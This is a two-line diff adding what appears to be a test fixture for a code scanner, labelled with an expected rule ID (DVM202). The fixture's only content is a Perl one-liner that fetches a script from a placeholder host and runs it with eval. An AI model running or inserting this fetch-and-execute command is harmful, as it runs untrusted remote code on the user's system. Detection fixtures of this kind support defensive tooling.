@@ -1,0 +1,2 @@
+# expect: DVM202
+perl -e 'use LWP::Simple; eval get("https://x.example.org/a.pl")'
